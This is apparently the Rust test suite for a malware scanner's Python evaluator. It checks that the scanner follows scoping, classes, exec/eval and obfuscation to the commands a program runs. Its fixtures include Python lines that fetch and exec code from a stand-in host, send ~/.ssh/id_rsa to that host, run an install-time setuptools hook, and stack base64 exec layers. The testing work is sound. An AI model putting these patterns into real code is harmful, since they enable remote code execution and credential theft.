//! What the evaluator for Python computes, what it follows, and that it ends.

use lurescan::analyse::{Facts, Flow, Labels, Sink, When, analyse};
use lurescan::artifact::{Kind, Text};

use crate::subject::artifact;

/// Runs with the stack that the scanner gives its threads.
fn facts(source: &str) -> Facts {
    let source = source.to_owned();
    let thread = std::thread::Builder::new().stack_size(lurescan::limits::STACK_BYTES).spawn(move || {
        let artifact = artifact("a.py", Kind::Python, source.as_bytes());
        analyse(&artifact, &Text::new(source.as_bytes()), true).facts
    });
    thread.expect("a thread starts").join().expect("following does not panic")
}

/// The command lines that a program starts, with `…` for what is not known of them.
fn started(source: &str) -> Vec<String> {
    let starts = |flow: &&Flow| matches!(flow.sink, Sink::Command | Sink::Argument);
    facts(source).flows.iter().filter(starts).filter_map(|flow| flow.text.clone()).collect()
}

#[track_caller]
fn starts(source: &str, command: &str) {
    let all = started(source);
    assert!(all.iter().any(|text| text == command), "{all:?} of\n{source}");
}

#[track_caller]
fn starts_not(source: &str, command: &str) {
    let all = started(source);
    assert!(!all.iter().any(|text| text.contains(command)), "{all:?} of\n{source}");
}

/// The first flow of these labels to that sink.
#[track_caller]
fn flow(source: &str, sink: Sink, labels: Labels) -> Flow {
    let flows = facts(source).flows;
    let found = flows.iter().find(|flow| flow.sink == sink && flow.labels.any(labels));
    found.unwrap_or_else(|| panic!("{flows:#?} of\n{source}")).clone()
}

#[track_caller]
fn flows_not(source: &str, sink: Sink, labels: Labels) {
    let flows = facts(source).flows;
    assert!(!flows.iter().any(|flow| flow.sink == sink && flow.labels.any(labels)), "{flows:#?} of\n{source}");
}

#[test]
fn a_name_means_what_was_last_given_to_it() {
    starts("import os\nx = 'a'\nx += 'b'\nx = x * 2\nos.system(x)\n", "abab");
}

#[test]
fn a_function_sees_the_module_and_not_its_callers() {
    starts("import os\nx = 'outer'\ndef f():\n    os.system(x)\ndef g():\n    x = 'inner'\n    f()\ng()\n", "outer");
}

#[test]
fn a_global_statement_writes_to_the_module() {
    starts("import os\nx = 'old'\ndef f():\n    global x\n    x = 'new'\nf()\nos.system(x)\n", "new");
}

#[test]
fn a_closure_keeps_its_variables_and_nonlocal_writes_them() {
    let source = "import os\ndef make():\n    n = 'a'\n    def more():\n        nonlocal n\n        n += 'b'\n        return n\n    \
                  return more\nf = make()\nf()\nos.system(f())\n";
    starts(source, "abb");
}

#[test]
fn defaults_are_taken_where_the_function_is_made() {
    starts("import os\nx = 'first'\ndef f(a=x):\n    os.system(a)\nx = 'second'\nf()\n", "first");
}

#[test]
fn arguments_arrive_by_position_name_star_and_double_star() {
    let source = "import os\ndef f(a, b='-', *c, d, **e):\n    os.system(a + b + ''.join(c) + d + e['z'])\n\
                  f(*['1', '2', '3'], d='4', **{'z': '5'})\n";
    starts(source, "12345");
}

#[test]
fn a_class_gives_its_attributes_to_instances_and_a_subclass_overrides_them() {
    let source = "import os\nclass A:\n    cmd = 'base'\n    def run(self):\n        os.system(self.cmd)\n\
                  class B(A):\n    cmd = 'derived'\nB().run()\n";
    starts(source, "derived");
}

#[test]
fn init_is_called_with_what_the_class_is_called_with() {
    let source = "import os\nclass A:\n    def __init__(self, x):\n        self.x = x\n    def go(self):\n        \
                  os.system(self.x)\nA('given').go()\n";
    starts(source, "given");
}

#[test]
fn super_leads_to_the_base() {
    let source = "import os\nclass A:\n    def go(self):\n        os.system('of the base')\n\
                  class B(A):\n    def go(self):\n        super().go()\nB().go()\n";
    starts(source, "of the base");
}

#[test]
fn properties_class_methods_and_static_methods_are_called_as_python_does() {
    let source = "import os\nclass A:\n    w = 'c'\n    @property\n    def p(self):\n        return 'a'\n    @staticmethod\n    \
                  def s(x):\n        return x\n    @classmethod\n    def c(cls):\n        return cls.w\n\
                  os.system(A().p + A.s('b') + A.c())\n";
    starts(source, "abc");
}

#[test]
fn an_instance_that_is_called_and_a_class_with_getattr_are_followed() {
    starts("import os\nclass A:\n    def __call__(self, x):\n        os.system(x)\nA()('called')\n", "called");
    starts("import os\nclass A:\n    def __getattr__(self, n):\n        return n + '!'\nos.system(A().any)\n", "any!");
}

#[test]
fn a_decorator_gets_the_function_and_its_result_takes_the_name() {
    let source = "import os\ndef twice(f):\n    def g(x):\n        return f(f(x))\n    return g\n\
                  @twice\ndef add(x):\n    return x + 'y'\nos.system(add('x'))\n";
    starts(source, "xyy");
}

#[test]
fn a_decorator_runs_where_it_stands() {
    starts(
        "import os\ndef deco(f):\n    os.system('when decorated')\n    return f\n@deco\ndef f():\n    pass\n",
        "when decorated",
    );
}

#[test]
fn comprehensions_filter_nest_and_keep_their_names_to_themselves() {
    starts(
        "import os\nx = 'k'\ns = ''.join(c for w in ['ab', 'cd'] for c in w if c != 'b')\nos.system(s + x)\n",
        "acdk",
    );
    starts("import os\nd = {k: v for k, v in zip('ab', '12')}\nos.system(d['b'])\n", "2");
    starts("import os\nx = 'k'\n[x for x in 'abc']\nos.system(x)\n", "k");
}

#[test]
fn a_generator_gives_what_it_yields() {
    starts("import os\ndef g():\n    yield 'a'\n    yield from ['b', 'c']\nos.system(''.join(g()))\n", "abc");
}

#[test]
fn loops_break_continue_and_run_their_else() {
    let source = "import os\ns = ''\nfor c in 'abcdef':\n    if c == 'b':\n        continue\n    if c == 'e':\n        break\n    \
                  s += c\nelse:\n    s = 'never'\nos.system(s)\n";
    starts(source, "acd");
    starts("import os\nn = 0\nwhile n < 3:\n    n += 1\nelse:\n    os.system('n%d' % n)\n", "n3");
}

#[test]
fn every_handler_of_an_exception_is_looked_at_and_finally_runs() {
    let source = "import os\ntry:\n    raise ValueError('told')\nexcept KeyError:\n    os.system('one')\n\
                  except (TypeError, ValueError) as e:\n    os.system('two')\nfinally:\n    os.system('last')\n";
    starts(source, "one");
    starts(source, "two");
    starts(source, "last");
}

#[test]
fn a_failing_import_runs_the_handler_that_installs_it() {
    let source = "import os\ntry:\n    import nobody_has_this\nexcept ImportError:\n    os.system('pip install nobody_has_this')\n";
    starts(source, "pip install nobody_has_this");
}

#[test]
fn a_condition_that_is_not_known_takes_both_ways() {
    let source = "import os, sys\nif sys.platform == 'win32':\n    os.system('one')\nelse:\n    os.system('two')\n";
    starts(source, "one");
    starts(source, "two");
    starts_not("import os\nif 1 > 2:\n    os.system('dead')\n", "dead");
}

#[test]
fn with_binds_what_enters() {
    let source = "import os\nclass C:\n    def __enter__(self):\n        return 'entered'\n    def __exit__(self, *a):\n        \
                  pass\nwith C() as c:\n    os.system(c)\n";
    starts(source, "entered");
}

#[test]
fn assignments_unpack_with_stars_and_walrus_gives_its_value() {
    starts("import os\na, (b, *c), d = '1', ('2', '3', '4'), '5'\nos.system(a + b + ''.join(c) + d)\n", "12345");
    starts("import os\nif (n := 'wal') and n:\n    os.system(n + 'rus')\n", "walrus");
}

#[test]
fn every_case_of_a_match_statement_is_looked_at() {
    let source = "import os\nmatch ['go', 'now']:\n    case ['stop']:\n        os.system('stop')\n    case ['go', x]:\n        \
                  os.system('go')\n";
    starts(source, "stop");
    starts(source, "go");
}

#[test]
fn lambdas_map_filter_reduce_and_partial_call_what_they_are_given() {
    starts("import os\nos.system(''.join(map(lambda n: chr(n + 1), [103, 104])))\n", "hi");
    starts("from functools import reduce\nimport os\nos.system(reduce(lambda a, b: b + a, 'abc'))\n", "cba");
    starts("from functools import partial\nimport os\npartial(os.system, 'bound')()\n", "bound");
    starts("import os\nos.system(''.join(filter(lambda c: c != 'x', 'axbx')))\n", "ab");
}

#[test]
fn functions_in_dictionaries_and_lists_are_called() {
    starts("import os\ntable = {'r': os.system}\ntable['r']('by key')\n", "by key");
    starts("import os\n[print, os.system][1]('by index')\n", "by index");
}

#[test]
fn names_are_looked_up_in_globals_vars_locals_and_modules() {
    starts("import os\nglobals()['os'].system('globals')\n", "globals");
    starts("import os\nvars(os)['system']('vars')\n", "vars");
    starts("import os\nlocals()['os'].system('locals')\n", "locals");
    starts("import sys, os\nsys.modules['os'].system('modules')\n", "modules");
    starts("import os\nos.__dict__['system']('dict')\n", "dict");
    starts("import os\ngetattr(os, 'metsys'[::-1])('getattr')\n", "getattr");
    starts("(lambda: 0).__globals__['__builtins__'].__import__('os').system('dunder')\n", "dunder");
}

#[test]
fn a_name_made_by_globals_or_setattr_can_be_used() {
    starts("import os\nglobals()['f'] = os.system\nf('made')\n", "made");
    starts("import os\nclass A:\n    pass\na = A()\nsetattr(a, 'x', 'set')\nos.system(a.x)\n", "set");
}

#[test]
fn eval_resolves_names_and_exec_defines_them() {
    starts("import os\neval('os.sys' + 'tem')('evaluated')\n", "evaluated");
    starts("import os\nexec('def f():\\n    os.system(\"defined\")')\nf()\n", "defined");
    starts("space = {}\nexec('import os; g = os.system', space)\nspace['g']('in a space')\n", "in a space");
    starts("exec(compile('import os; os.system(\"compiled\")', 'f', 'exec'))\n", "compiled");
}

#[test]
fn layers_of_exec_are_peeled_to_the_last() {
    let mut source = "import os\nos.system('innermost')\n".to_owned();
    for _ in 0..8 {
        let packed = data_encoding::BASE64.encode(source.as_bytes());
        source = format!("import base64\nexec(base64.b64decode('{packed}'))\n");
    }
    starts(&source, "innermost");
}

#[test]
fn a_sum_of_thousands_of_characters_is_put_together() {
    let text = format!("import os\nos.system('{}')", "x".repeat(3000));
    let sum: Vec<String> = text.bytes().map(|byte| format!("chr({byte})")).collect();
    let all = started(&format!("exec({})\n", sum.join("+")));
    assert!(all.iter().any(|text| text.starts_with(&"x".repeat(200))), "{all:?}");
}

#[test]
fn an_expression_that_is_too_deep_costs_only_itself() {
    let deep = format!("x = {}1{}\n", "[".repeat(150), "]".repeat(150));
    starts(&format!("import os\n{deep}os.system('after')\n"), "after");
    let tests = "(".repeat(40) + &"1 if 1 else (".repeat(180) + "0" + &")".repeat(220);
    starts(&format!("import os\nx = {tests}\nos.system('after')\n"), "after");
}

#[test]
fn python_2_is_read() {
    starts("import os\nprint 'hello'\nprint >>f, 'x'\nos.system('after print')\n", "after print");
    starts("code = \"import os; os.system('by exec')\"\nexec code\n", "by exec");
    starts("import os\ntry:\n    pass\nexcept Exception, e:\n    pass\nos.system('after except')\n", "after except");
    starts("import os\nos.system(`1` + 'x')\nos.system('after backticks')\n", "after backticks");
    starts(
        "import os\nx = 0777\ny = ur'z'\ndef f():\n    raise ValueError, 'no'\nos.system('after raise')\n",
        "after raise",
    );
}

#[test]
fn a_syntax_error_in_the_middle_hides_neither_side() {
    let source = "import os\nos.system('before')\ndef broken(:\n    pass\nos.system('after')\n";
    starts(source, "before");
    starts(source, "after");
    starts("import os\nos.system('before')\nx = = 3 )\nos.system('after')\n", "after");
    starts("import os\nos.system('before')\ns = 'open\nos.system('after')\n", "after");
}

#[test]
fn star_imports_give_their_names() {
    starts("from os import *\nsystem('of os')\n", "of os");
    flow("from requests import *\nexec(get('http://a.invalid').text)\n", Sink::Code, Labels::NETWORK);
}

#[test]
fn a_command_class_runs_when_the_package_is_installed() {
    let source = "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\
                  class Post(install):\n    def run(self):\n        os.system('hook')\nsetup(cmdclass={'install': Post})\n";
    let found = facts(source).flows.into_iter().find(|flow| flow.text.as_deref() == Some("hook"));
    assert_eq!(found.map(|flow| flow.when), Some(When::Load));
}

#[test]
fn a_thread_a_timer_and_an_exit_handler_run_their_function() {
    for start in [
        "threading.Thread(target=f).start()",
        "threading.Timer(5, f).start()",
        "atexit.register(f)",
        "asyncio.run(g())",
    ] {
        let source = format!(
            "import os, threading, atexit, asyncio\ndef f():\n    os.system('in it')\nasync def g():\n    f()\n{start}\n"
        );
        let found = facts(&source).flows.into_iter().find(|flow| flow.text.as_deref() == Some("in it"));
        assert_eq!(found.map(|flow| flow.when), Some(When::Load), "{start}");
    }
}

#[test]
fn what_only_a_caller_or_the_main_guard_runs_is_not_run_on_import() {
    for source in [
        "import requests\ndef f():\n    exec(requests.get('http://a.invalid').text)\n",
        "import requests\nif __name__ == '__main__':\n    exec(requests.get('http://a.invalid').text)\n",
        "import requests\nexec('if __name__ == \"__main__\":\\n    exec(requests.get(\"http://a.invalid\").text)')\n",
    ] {
        assert_eq!(flow(source, Sink::Code, Labels::NETWORK).when, When::Call, "{source}");
    }
}

#[test]
fn an_answer_keeps_its_origin_through_helpers_containers_and_classes() {
    for source in [
        "import requests\ndef get(u):\n    return requests.get(u).content.decode()\nexec(get('http://a.invalid'))\n",
        "import requests\nd = {'c': [requests.get('http://a.invalid').text]}\nexec(d['c'][0])\n",
        "import requests\nclass A:\n    def __init__(self):\n        self.c = requests.get('http://a.invalid').text\nexec(A().c)\n",
        "import requests\nexec(''.join(reversed(requests.get('http://a.invalid').json()['c'].split(','))))\n",
        "import requests\nfor line in requests.get('http://a.invalid').iter_lines():\n    exec(line)\n",
        "import requests\nexec('%s' % requests.get('http://a.invalid').text)\nx = f'{1}'\n",
        "import urllib.request as u\nwith u.urlopen('http://a.invalid') as f:\n    exec(f.read())\n",
        "import requests, json\nexec(json.loads(requests.get('http://a.invalid').text)['code'])\n",
    ] {
        let found = flow(source, Sink::Code, Labels::NETWORK);
        assert!(found.fixed && found.address.as_deref() == Some("http://a.invalid"), "{found:#?} of\n{source}");
    }
}

#[test]
fn an_address_that_the_caller_gives_is_not_fixed() {
    let found = flow("import requests\ndef f(u):\n    exec(requests.get(u).text)\n", Sink::Code, Labels::ANY_NETWORK);
    assert!(!found.fixed);
}

#[test]
fn a_digest_a_length_and_a_comparison_of_a_secret_are_not_the_secret() {
    let read = "import os, requests, hashlib\ns = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n";
    let send = |what: &str| format!("{read}requests.post('http://a.invalid', data={what})\n");
    flow(&send("s"), Sink::Send, Labels::SECRET);
    flow(&send("s[:100].encode().hex()"), Sink::Send, Labels::SECRET);
    flows_not(&send("len(s)"), Sink::Send, Labels::SECRET);
    flows_not(&send("{'ok': s == 'x'}"), Sink::Send, Labels::SECRET);
}

#[test]
fn an_error_says_only_what_went_wrong_in_its_own_statement() {
    let source = "import requests\ndef a():\n    requests.get('http://a.invalid')\ndef b():\n    try:\n        work()\n    \
                  except Exception as e:\n        eval(str(e))\na()\nb()\n";
    flows_not(source, Sink::Code, Labels::NETWORK);
    let source =
        "import requests\ntry:\n    requests.get('http://a.invalid')\nexcept Exception as e:\n    eval(str(e))\n";
    flow(source, Sink::Code, Labels::NETWORK);
}

#[test]
fn a_loop_without_end_recursion_without_end_and_growth_without_end_are_bounded() {
    for bomb in [
        "while True:\n    x = 1\n",
        "def f():\n    return f()\nf()\n",
        "def f(n):\n    return f(n - 1) + f(n - 2)\nf(90)\n",
        "x = 'a'\nwhile True:\n    x += x\n",
        "x = [0]\nfor i in x:\n    x.append(i)\n",
        "x = 9 ** 9 ** 9 ** 9\n",
        "x = ['a' * 10 ** 12]\n",
        "def g():\n    while True:\n        yield 1\nx = list(g())\n",
        "s = 'exec(s)'\nexec(s)\n",
        "import itertools\nx = ''.join(itertools.cycle('ab'))\n",
        "x = '%9999999999d' % 1\n",
        "x = range(10 ** 18)\ny = list(x)\n",
    ] {
        facts(&format!("import os\nos.system('first')\n{bomb}"));
        starts(&format!("import os\nos.system('first')\n{bomb}"), "first");
    }
}

#[test]
fn layers_that_unfold_without_end_are_bounded() {
    let source =
        "import os\nos.system('first')\nq = 'exec(chr(113))'\nexec('exec(q)')\nexec(eval('repr')('exec(q)') * 9)\n";
    starts(source, "first");
}
